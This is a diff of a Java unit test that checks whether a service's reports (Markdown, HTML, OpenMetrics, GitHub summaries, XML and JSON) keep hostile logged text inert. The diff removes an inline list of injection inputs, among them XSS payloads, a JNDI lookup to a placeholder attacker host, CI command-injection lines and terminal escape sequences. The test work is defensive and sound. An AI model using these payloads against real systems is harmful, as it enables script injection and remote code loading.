@@ -14,61 +14,83 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.stream.IntStream;
 import javax.xml.parsers.DocumentBuilderFactory;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /** Whatever a service logs, nothing in a report breaks or comes alive. */
 class HostileTextTest {
-  private static final List<String> HOSTILE =
-      List.of(
-          "<script>alert(1)</script>",
-          "</details><img src=x onerror=alert(1)>",
-          "\"><svg/onload=alert(1)>",
-          "' onmouseover='alert(1)",
-          "<!-- never closed",
-          "]]><![CDATA[",
-          "&lt;b&gt;&amp;",
-          "a | b | c |",
-          "\\| \\\\| \\",
-          "`` ` ``` ```` unbalanced `",
-          "```\n# heading\n```",
-          "~~~~~\ntext",
-          "# heading",
-          "- list\n- item",
-          "1. one",
-          "+ plus",
-          "> quote",
-          "===\n---\n***",
-          "| a | b |\n|---|---|\n| c | d |",
-          "[click](http://evil.example)",
-          "![img](https://evil.example/x.png)",
-          "[ref]: http://evil.example 'x'",
-          "<http://evil.example>",
-          "www.evil.example me@evil.example @octocat #123 GH-7",
-          "$x^2$ $$y$$ `$z$`",
-          "**bold** __bold__ *it* _it_ ~~gone~~",
-          "\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007",
-          "\u0000\u0001\u0008\u007f\u009b31m",
-          "\u202Egnp.exe\u202C \u2066x\u2069 \u200B\uFEFF",
-          "line\r\nbreak\rreturn\u2028sep\u2029par\u0085nel",
-          "lone \ud800 surrogate \udc00 \uFFFE\uFFFF",
-          "%3Cscript%3E javascript:alert(1) data:text/html,x",
-          "::error file=x::boom\n::set-output name=a::b",
-          "{{7*7}} ${jndi:ldap://evil.example} <%= 1 %>",
-          "    indented code",
-          "\t tab");
+  private static final List<String> HOSTILE = HostileLines.all();
 
-  @TempDir Path folder;
+  @TempDir static Path folder;
+
+  private static List<Case> made = List.of();
+
+  /** A text, and the session in which everything says it. */
+  private record Case(String text, SessionResult result) {}
+
+  private static List<Case> cases() {
+    if (made.isEmpty()) {
+      made =
+          IntStream.range(0, HOSTILE.size())
+              .parallel()
+              .mapToObj(i -> new Case(HOSTILE.get(i), session("h" + i, HOSTILE.get(i))))
+              .toList();
+    }
+    return made;
+  }
+
+  @Test
+  void meetsOverTwoHundredLines() {
+    assertThat(HOSTILE).doesNotHaveDuplicates().hasSizeGreaterThanOrEqualTo(200);
+  }
+
+  @Test
+  void staysOneValueInOpenMetrics() {
+    for (Case c : cases()) {
+      String text = OpenMetrics.of(c.result());
+      assertThat(text).as(c.text()).endsWith("# EOF\n").containsOnlyOnce("# EOF\n");
+      assertThat(text.lines())
+          .as(c.text())
+          .allMatch(
+              line ->
+                  line.matches(
+                      "# (EOF|(TYPE|HELP) [a-z_]+ .+)"
+                          + "|[a-z_]+(\\{([a-z]+=\"[^\"\\\\]*+(?:\\\\[\\\\\"n][^\"\\\\]*+)*+\",?)+\\})? -?\\d+"));
+    }
+  }
+
+  @Test
+  void staysOneCommandInAnnotations() {
+    for (Case c : cases()) {
+      assertThat(GithubSummary.annotations(c.result()))
+          .as(c.text())
+          .allMatch(line -> line.matches("::(error|warning|notice)( [^\\n\\r]*?)?::[^\\n\\r]*"))
+          .allMatch(line -> line.startsWith("::error"));
+    }
+  }
+
+  @Test
+  void staysInertInTheSummaryForGitHub() {
+    for (Case c : cases()) {
+      assertThat(ParsedMarkdown.of(GithubSummary.of(c.result())).live()).as(c.text()).isEmpty();
+    }
+  }
 
   @Test
   void staysInertInMarkdown() {
     ParsedMarkdown calm = ParsedMarkdown.of(MarkdownReport.of(session("calm", "words")));
-    for (String text : HOSTILE) {
-      ParsedMarkdown page =
-          ParsedMarkdown.of(MarkdownReport.of(session("h" + text.hashCode(), text)));
+    for (Case c : cases()) {
+      String text = c.text();
+      String markdown = MarkdownReport.of(c.result());
+      ParsedMarkdown page = ParsedMarkdown.of(markdown);
 
       assertThat(page.live()).as(text).isEmpty();
+      assertThat(markdown).as(text).hasSizeLessThanOrEqualTo(MarkdownReport.LIMIT);
+      if (markdown.strip().endsWith("has everything.*")) {
+        continue; // too much even at the least detail: the last sections are cut, and it says so
+      }
       assertThat(page.headings(3)).as(text).hasSize(8);
       assertThat(page.tables()).as(text).hasSameSizeAs(calm.tables());
       page.tables()
@@ -82,8 +104,9 @@ class HostileTextTest {
 
   @Test
   void leavesNoControlCharacterInAnyTextFormat() {
-    for (String text : HOSTILE) {
-      SessionResult result = session("c" + text.hashCode(), text);
+    for (Case c : cases()) {
+      String text = c.text();
+      SessionResult result = c.result();
       for (ReportFormat format : ReportFormat.values()) {
         assertThat(format.render(result))
             .as(format + " " + text)
@@ -95,10 +118,11 @@ class HostileTextTest {
 
   @Test
   void staysTextInHtml() {
-    for (String text : HOSTILE) {
-      String html = HtmlReport.of(session("x" + text.hashCode(), text));
+    for (Case c : cases()) {
+      String html = HtmlReport.of(c.result());
 
       assertThat(html)
+          .as(c.text())
           .doesNotContain("<script", "<img", "onerror=alert(1)>", "<svg/onload", "href=\"http");
       assertThat(html).doesNotContainPattern("<[^>]*\\son\\w+=");
     }
@@ -106,8 +130,8 @@ class HostileTextTest {
 
   @Test
   void staysWellFormedInXmlAndJson() throws Exception {
-    for (String text : HOSTILE) {
-      SessionResult result = session("w" + text.hashCode(), text);
+    for (Case c : cases()) {
+      SessionResult result = c.result();
 
       byte[] xml = JUnitXml.of(result).getBytes(StandardCharsets.UTF_8);
       assertThat(
@@ -124,7 +148,7 @@ class HostileTextTest {
     }
   }
 
-  private SessionResult session(String name, String text) {
+  private static SessionResult session(String name, String text) {
     List<Draft> drafts = new ArrayList<>();
     for (Severity severity : List.of(Severity.CRITICAL, Severity.HIGH)) {
       drafts.add(
